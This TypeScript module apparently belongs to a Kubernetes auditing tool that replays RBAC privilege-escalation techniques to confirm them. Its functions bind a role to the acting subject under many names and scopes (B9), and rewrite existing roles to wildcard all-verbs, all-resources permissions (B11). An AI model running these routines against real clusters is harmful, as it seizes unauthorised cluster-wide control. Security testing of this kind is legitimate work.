// Replays the techniques that take a role: by binding it (B9), and by writing into one that is bound already (B11).
import type { Client } from '../cluster/client.ts';
import type { Attempt } from './attempt.ts';
import { sendRequest } from './reads.ts';
import { bindingSubjectOf, carriesValue, eventually, namesToTry, partsOf, type Stage } from './stage.ts';

const GROUP = 'rbac.authorization.k8s.io';
const API = `/apis/${GROUP}/v1`;
const APPLY = { contentType: 'application/apply-patch+yaml' };
const MERGE = { contentType: 'application/merge-patch+json' };
const EVERYTHING = { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] };

/** What the path ends with, asked until the authorizer has seen the change. */
async function readsAtLast({ actor, path, looks }: Stage): Promise<boolean> {
  const request = path.steps.at(-1)?.request;
  if (request === undefined) return false;
  return (await eventually(looks, async () => carriesValue(await sendRequest(actor, request)) || undefined)) === true;
}

async function bound(client: Client, path: string, binding: object & { metadata: { name: string } }): Promise<boolean> {
  const target = `${path}/${binding.metadata.name}`;
  if ((await client.send('POST', path, binding)).status === 201) return true;
  if ((await client.send('PATCH', `${target}?fieldManager=replay&force=true`, binding, APPLY)).status < 300)
    return true;
  if ((await client.send('PUT', target, binding)).status < 300) return true;
  const { metadata: _metadata, ...change } = binding;
  return (await client.send('PATCH', target, change, MERGE)).status < 300;
}

/** Bindings that there are, which a change could add the caller to. */
function bindingsIn({ replay }: Stage): string[] {
  return replay.objects
    .filter(({ kind = '' }) => kind.endsWith('RoleBinding'))
    .flatMap(({ metadata }) => metadata?.name ?? []);
}

/** B9: in the namespace, and in the whole cluster; under any name. */
export const bindsRole: Attempt = async (stage) => {
  const [step] = stage.path.steps;
  const role = partsOf(step?.to ?? '');
  const { namespace } = partsOf(stage.path.from);
  const kind = role.kind === 'role' ? 'Role' : 'ClusterRole';
  const roleRef = { apiGroup: GROUP, kind, name: role.kind === 'role' ? role.name : role.name };
  const subjects = [bindingSubjectOf(stage.path.from)];
  const target = partsOf(stage.path.to).namespace;
  const names = [...namesToTry(stage.replay), ...bindingsIn(stage)];
  for (const wanted of new Set(names)) {
    const everywhere = { name: wanted === 'fresh' ? `${namespace}-fresh` : wanted };
    const binding = { apiVersion: `${GROUP}/v1`, roleRef, subjects };
    const tries = [
      [`${API}/namespaces/${target}/rolebindings`, { ...binding, kind: 'RoleBinding', metadata: { name: wanted } }],
      [`${API}/clusterrolebindings`, { ...binding, kind: 'ClusterRoleBinding', metadata: everywhere }],
    ] as const;
    for (const [path, object] of tries) {
      // oxlint-disable-next-line no-await-in-loop -- one try after the other
      if ((await bound(stage.actor, path, object)) && (await readsAtLast(stage))) return true;
    }
  }
  return false;
};

/** B11: everything, written into each role of the example. */
export const widensRole: Attempt = async (stage) => {
  for (const { kind, metadata } of stage.replay.objects.filter((one) => one.kind?.endsWith('Role'))) {
    const place = kind === 'Role' ? `/namespaces/${metadata?.namespace}/roles` : '/clusterroles';
    const path = `${API}${place}/${metadata?.name}`;
    const whole = { apiVersion: `${GROUP}/v1`, kind, metadata: { name: metadata?.name }, ...EVERYTHING };
    // oxlint-disable-next-line no-await-in-loop -- one try after the other
    const patched = await stage.actor.send('PATCH', path, EVERYTHING, MERGE);
    // oxlint-disable-next-line no-await-in-loop
    const isWide = patched.status === 200 || (await stage.actor.send('PUT', path, whole)).status === 200;
    // oxlint-disable-next-line no-await-in-loop
    if (isWide && (await readsAtLast(stage))) return true;
  }
  return false;
};
